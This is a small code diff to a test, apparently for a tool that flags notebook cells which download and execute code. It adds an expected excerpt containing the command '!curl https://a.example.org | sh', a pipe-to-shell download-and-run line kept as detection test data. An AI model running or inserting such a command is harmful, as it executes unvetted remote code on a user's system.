@@ -68,7 +68,8 @@ it('is told with its cell, its line and a reason', () => {
       cell: 1,
       line: 1,
       kind: 'download-executed',
-      reason: expect.stringMatching(/^[A-Z].*\.$/) as string
+      reason: expect.stringMatching(/^[A-Z].*\.$/) as string,
+      excerpt: '!curl https://a.example.org | sh'
     }
   ]);
 });
